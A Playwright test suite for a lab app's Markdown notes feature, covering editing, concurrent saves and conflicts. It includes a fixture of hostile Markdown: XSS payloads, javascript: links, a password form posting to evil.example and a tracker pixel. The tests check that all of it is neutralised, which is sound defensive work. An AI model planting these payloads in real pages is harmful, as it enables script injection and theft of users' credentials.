import assert from 'node:assert/strict';
import { describe } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import { noBrowser, openTab } from './browser.ts';
import { look } from './look.ts';
import { createStage } from './stage.ts';
import { choose, settles, waitFor } from './walk.ts';

const FILE = /\/files\/README\.txt$/;
/** What somebody may have put into a project file’s folder. */
const HOSTILE = `# Read <script>window.hit = 1</script>me

<img src=x onerror="window.hit = 2"> <svg onload="window.hit = 3"></svg><iframe src="javascript:window.hit=4"></iframe>
<form action="https://evil.example"><button id="send">Send</button><input name="password"></form>
<style>body { display: none }</style><div style="position:fixed;inset:0" id="lab-page">over</div>

[a](javascript:window.hit=5) [b](data:text/html,<script>window.hit=6</script>) [c](vbscript:x) [d](//evil.example)
[good](https://example.org/x) [mail](mailto:a@example.org) [file](configs/r%201.cfg) [hash](#/projects) <a href="https://example.org" target="_top" onclick="window.hit=7">own</a>
![tracker](https://evil.example/pixel.png) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)

- [ ] <b onmouseover="window.hit=8">first</b>
- [x] second

| a | b |
|---|---|
| 1 | \`2\` |
`;

describe('the notes of a lab', { skip: noBrowser, timeout: 300_000 }, () => {
  const stage = createStage('notes');
  const { step, press, fill } = stage;
  let lab = '';
  let other: Page;
  const file = (): string => `${stage.server.url}${lab}/files/README.txt`;
  const text = async (): Promise<string> => {
    const answer = await fetch(file());
    return answer.ok ? answer.text() : '';
  };
  const write = async (body: string): Promise<void> => {
    assert.equal((await fetch(file(), { method: 'POST', body })).status, 201);
  };
  /** As a client that reads, changes, and writes if nobody else has written meanwhile. */
  const putFirst = async (line: string): Promise<void> => {
    for (;;) {
      const answer = await fetch(file());
      const headers = { 'If-Match': answer.headers.get('etag') ?? assert.fail('it has no ETag') };
      const body = `${line}\n\n${await answer.text()}`;
      const { status } = await fetch(file(), { method: 'POST', body, headers });
      if (status === 201) return;
      assert.equal(status, 412);
    }
  };
  const is = (wanted: string): Promise<void> =>
    waitFor(async () => (await text()) === wanted).catch(async () => assert.equal(await text(), wanted));
  const field = (page: Page): Locator => page.getByRole('textbox', { name: 'Notes in Markdown' });
  const notes = (page: Page): Locator => page.getByRole('region', { name: /^(?:Notes of the lab|Preview)$/ });

  step('are opened by a key, begun by another one, and save themselves', async (page) => {
    lab = await stage.lab('noted');
    await page.goto(`${stage.server.url}/#${lab.replace('/v2', '')}`);
    await page.getByRole('heading', { name: 'Nothing is here yet' }).waitFor();
    await press('n');
    await notes(page).getByText('Nothing is written here yet').waitFor();
    await look(stage.tab, 'no notes yet');
    await stage.at(/^Notes of the lab$/, 'Enter');
    await field(page).and(page.locator(':focus')).waitFor();
    await page.keyboard.type('# Lab 7\n\nGive each PC an **address**.\n\n- [ ] PC1\n- [ ] PC2');
    await page.getByRole('heading', { name: 'Lab 7', level: 2 }).waitFor();
    await is('# Lab 7\n\nGive each PC an **address**.\n\n- [ ] PC1\n- [ ] PC2');
    await page.locator('.notes-head').getByText('Saved', { exact: true }).waitFor();
    await stage.tab.screenshot('notes-written');
    await look(stage.tab, 'notes that are written');
    await press('Escape');
    await field(page).waitFor({ state: 'detached' });
    await page.locator('.notes-page:focus').waitFor();
  });

  step('have their keys for themselves, also while they are only read', async (page) => {
    await stage.send('POST', `${lab}/nodes`, { name: 'R1', node_type: 'simple_pc', compute_id: 'local' });
    await stage.at(/^R1, stopped/, 'Control+a');
    await page.locator('.react-flow__node.selected').waitFor();
    await notes(page).focus();
    // A dialog that asks whether to delete would have the second key.
    await press('Delete', 'Enter');
    await field(page).and(page.locator(':focus')).waitFor();
    await settles(() => page.getByRole('dialog').count(), 0);
    await press('Escape');
    await page.locator('.notes-page:focus').waitFor();
    assert.equal((await stage.read<unknown[]>(`${lab}/nodes`)).length, 1);
  });

  step('have tasks, which are done by keys, for everybody', async (page) => {
    other = (await openTab(stage.browser)).page;
    await other.goto(page.url());
    await other.getByRole('heading', { name: 'noted' }).waitFor();
    await other.getByRole('button', { name: 'Project', exact: true }).click();
    await choose(other, 'Notes');
    await other.getByRole('checkbox', { name: 'PC2' }).waitFor();
    await stage.at(/^PC2$/, 'Space');
    await is('# Lab 7\n\nGive each PC an **address**.\n\n- [ ] PC1\n- [x] PC2');
    await page.locator('input[aria-label="PC2"]:focus').waitFor();
    await other.getByRole('checkbox', { name: 'PC2', checked: true }).waitFor();
    await stage.tab.screenshot('notes-read');
    await look(stage.tab, 'notes that are read');
  });

  step('put together what two write at once', async (page) => {
    await page.getByRole('button', { name: 'Edit', exact: true }).click();
    await press('Control+End');
    await page.keyboard.type('\n- [ ] PC3');
    await putFirst('Read this first.');
    await waitFor(async () => /^Read this first\.[^]*PC3$/.test(await text()));
    await other.getByRole('checkbox', { name: 'PC3' }).waitFor();
    await notes(other).getByText('Read this first.').waitFor();
    assert.match(await field(page).inputValue(), /^Read this first\./);
  });

  step('ask when both have changed the same line, and lose neither', async (page) => {
    await fill(/^Notes in Markdown$/, 'One line');
    await is('One line');
    // Between reading and writing: the server says it.
    let isFirst = true;
    await page.route(FILE, async (route) => {
      if (isFirst && route.request().method() === 'POST') {
        isFirst = false;
        await write('Their line');
      }
      await route.continue();
    });
    stage.tab.allow(/412 \(Precondition Failed\).*README/);
    await fill(/^Notes in Markdown$/, 'My line');
    const asked = page.getByRole('alert', { name: 'Changed by two' });
    await asked.getByText('Their line').waitFor();
    await page.unroute(FILE);
    await asked.getByText('My line').waitFor();
    assert.equal(await text(), 'Their line');
    await stage.tab.screenshot('notes-conflict');
    await look(stage.tab, 'notes that two have changed');
    await asked.getByRole('button', { name: 'Keep both' }).click();
    await is('Their line\nMy line');
    await asked.waitFor({ state: 'detached' });
  });

  step('keep what is typed while the server does not take it, also over a reload', async (page) => {
    stage.tab.allow(/README\.txt/);
    await page.route(FILE, (route) => (route.request().method() === 'POST' ? route.abort() : route.continue()));
    await fill(/^Notes in Markdown$/, 'Typed in a tunnel');
    await page.getByRole('alert').getByText('The server does not answer.').waitFor();
    await page.reload();
    await page.unroute(FILE);
    await is('Typed in a tunnel');
  });

  step('do nothing, whatever is in them', async (page) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await write(HOSTILE);
    const shown = page.locator('.markdown');
    await shown.getByRole('cell', { name: '2' }).waitFor();
    assert.equal(await page.evaluate('window.hit'), undefined);
    for (const tag of ['script', 'style', 'iframe', 'svg', 'form', 'button', '[style]', '[id]', '[onclick]', 'div'])
      assert.equal(await shown.locator(tag).count(), 0, tag);
    const links = await page.evaluate<string[]>(
      `[...document.querySelectorAll('.markdown a')].map((a) => [a.textContent, a.getAttribute('href'), a.target, a.rel].join(' '))`,
    );
    const safe = '_blank noopener noreferrer';
    assert.deepEqual(links, [
      `good https://example.org/x ${safe}`,
      `mail mailto:a@example.org ${safe}`,
      `file ${stage.server.url}${lab}/files/configs/r%25201.cfg ${safe}`,
      `own https://example.org ${safe}`,
    ]);
    await settles(() => shown.locator('img').count(), 1);
    await settles(() => shown.locator('input').count(), 2);
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(stage.server.url) && !url.startsWith('data:')),
      [],
    );
    await settles(() => shown.getByText('tracker').count(), 1);
    await look(stage.tab, 'hostile notes');
    await page.getByRole('checkbox', { name: 'first' }).click();
    await waitFor(async () => (await text()).includes('- [x] <b'));
  });

  step('are read, not written, in the past and in a closed project', async (page) => {
    await write('Now');
    await stage.send('POST', `${lab}/close`);
    await page.getByText('This project is closed').waitFor();
    await page.getByRole('button', { name: 'Edit', exact: true, disabled: true }).waitFor();
    await notes(page).getByText('Now').waitFor();
    await notes(page).dblclick();
    await settles(() => field(page).count(), 0);
  });
});
